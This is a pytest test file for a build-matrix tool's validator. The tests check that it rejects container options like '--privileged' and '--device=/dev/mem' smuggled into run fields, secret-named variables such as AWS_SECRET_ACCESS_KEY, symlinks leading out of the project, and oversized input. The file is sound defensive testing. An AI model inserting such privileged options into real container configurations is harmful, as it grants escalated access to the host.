@pytest.mark.parametrize("field", ["group_add", "security_opt", "cap_add"])
@pytest.mark.parametrize("value", ["--privileged", "-v", "--device=/dev/mem", "-"])
def test_run_lists_hold_no_option(field, value, invoke):
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"backends.rocm.run.{field}=[{_yaml(value)}]")
    assert result.exit_code == 2 and f"backends.rocm.run.{field}[0]" in result.stderr


@pytest.mark.parametrize("field", ["runtime", "ipc", "network"])
def test_run_words_hold_no_option(field, invoke):
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"backends.rocm.run.{field}=--privileged")
    assert result.exit_code == 2


@pytest.mark.parametrize("field", ["backends.cpu.description", "backends.cpu.base_image", "transformers.version",
                                   "backends.cpu.env.X", "packages"])
def test_huge_values_are_capped_in_errors(field, invoke):
    huge = "x" * (2 << 20) + "\x1b"
    value = f"[{_yaml(huge)}]" if field == "packages" else _yaml(huge)
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"{field}={value}")
    assert result.exit_code == 2 and len(result.stderr) < 10_000, len(result.stderr)


def test_many_duplicate_keys_give_a_bounded_message(write_matrix):
    text = REPO_MATRIX.read_text() + "".join("dup: 1\n" for _ in range(300_000))
    proc = _timed("validate", "--matrix", str(write_matrix(text)), timeout=60)
    assert proc.returncode == 2 and proc.stderr.count("\n") < 100 and "more problems" in proc.stderr


SET_TEMPLATES = ["containerizable={flip}", "device=null", "torch.version=2.1.0", "torch.version=9.0.0", "plugin.version=0.0.1",
                 "torch.source=pip", "torch.source=base", "torch.index_url=null", "host.stack=cuda", "variant_of=cpu",
                 "plugin=null", "detect=null", "python=null", "run=null", "user=root", "platforms=[linux/s390x]",
                 "host.version=99.0", "description=null", "base_image=null", "ci=null", "plugin.pairing=same-release"]


@pytest.mark.parametrize("template", SET_TEMPLATES)
def test_set_errors_are_placed_at_the_set_for_every_backend(template, invoke):
    from envbuild.matrix import load

    for b in load(REPO_MATRIX).backends:
        override = f"backends.{b.name}.{template.format(flip=str(not b.containerizable).lower())}"
        result = invoke("validate", "--matrix", REPO_MATRIX, "--set", override)
        if result.exit_code == 0:
            continue
        lines = result.stderr.strip().splitlines()
        assert result.exit_code == 2 and all(line.startswith(f"Error: --set {override}: ") for line in lines), lines


@pytest.mark.parametrize("field", ["backends.cpu.env", "backends.cpu.run.env"])
@pytest.mark.parametrize("shape", SHAPES)
def test_the_matrix_holds_no_secret_value(field, shape, invoke, tmp_path):
    value, hidden = SECRET_FORMS[shape]
    result = invoke("render", "--matrix", REPO_MATRIX, "--output", tmp_path / "out", "--set",
                    f"{field}={{SOME_SETTING: {_yaml(value.splitlines()[0])}}}")
    assert result.exit_code == 2 and "looks like a secret" in result.stderr, result.output
    assert hidden.splitlines()[0] not in result.output and not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["HF_TOKEN", "GITHUB_TOKEN", "MY_PAT", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "API_KEY"])
def test_the_matrix_holds_no_secret_named_variable(name, invoke):
    result = invoke("validate", "--matrix", REPO_MATRIX, "--set", f"backends.cpu.env={{{name}: x}}")
    assert result.exit_code == 2 and "names a secret" in result.stderr


BAD_METADATA = [
    {"transformers": []},
    {"transformers": {"releases": []}},
    {"transformers": {"releases": {"not a version": {}}}},
    {"transformers": {"releases": {"5.0.0": "x"}}},
    {"transformers": {"releases": {"5.0.0": {"tags": "py3"}}}},
    {"transformers": {"releases": {"5.0.0": {"tags": [1]}}}},
    {"transformers": {"releases": {"5.0.0": {"wheels": []}}}},
    {"transformers": {"releases": {"5.0.0": {"wheels": {"py3": {"torch": 2}}}}}},
    {"transformers": {"index": ["x"]}},
]


@pytest.mark.parametrize("dists", BAD_METADATA, ids=range(len(BAD_METADATA)))
def test_a_hand_edited_metadata_cache_is_refused_with_its_field_not_a_crash(dists, tmp_path, invoke):
    (tmp_path / "matrix.yaml").write_text(REPO_MATRIX.read_text())
    (tmp_path / "matrix.metadata.json").write_text(json.dumps({"format": 1, "distributions": dists}))
    result = invoke("validate", "--matrix", tmp_path / "matrix.yaml")
    assert result.exit_code == 2, result.stderr
    assert "matrix.metadata.json: not a metadata cache envbuild wrote: distributions.transformers" in result.stderr


# --- Files a pull request brings: matrix.yaml read as untrusted (issue 51) -------------------------------------

@pytest.mark.parametrize("kind", ["link out", "loop", "fifo", "link to nothing"])
def test_a_matrix_that_is_no_regular_file_in_its_folder_exits_2_unquoted(tmp_path, invoke, kind):
    """`validate --matrix` of a link in a loop was exit 70 (Path.resolve); a link out of the project is not followed
    (nothing of its target is quoted), a FIFO never waited on."""
    project = tmp_path / "project"
    project.mkdir()
    plant(project / "matrix.yaml", kind, b"", tmp_path / "private.yaml")
    result = invoke("validate", "--matrix", project / "matrix.yaml")
    assert result.exit_code == 2, result.output
    assert "matrix.yaml" in result.stderr and "give a regular file" in result.stderr, result.stderr
    assert SECRET not in result.output


def test_a_matrix_may_link_to_a_file_in_its_own_folder(tmp_path, invoke):
    (tmp_path / "real.yaml").write_text(REPO_MATRIX.read_text())
    (tmp_path / "matrix.yaml").symlink_to("real.yaml")
    assert invoke("validate", "--matrix", tmp_path / "matrix.yaml").exit_code == 0


@FILES
@given(st.data())
def test_any_matrix_file_gives_validate_exit_0_1_or_2_and_no_secret(tmp_path_factory, invoke, data):
    tmp = tmp_path_factory.mktemp("matrix")
    kind, raw = data.draw(st.sampled_from(KINDS)), data.draw(file_bytes(MATRIX_TEXT.encode()))
    plant(tmp / "matrix.yaml", kind, raw, tmp / "private.yaml")
    exits_cleanly(invoke("validate", "--matrix", tmp / "matrix.yaml"))
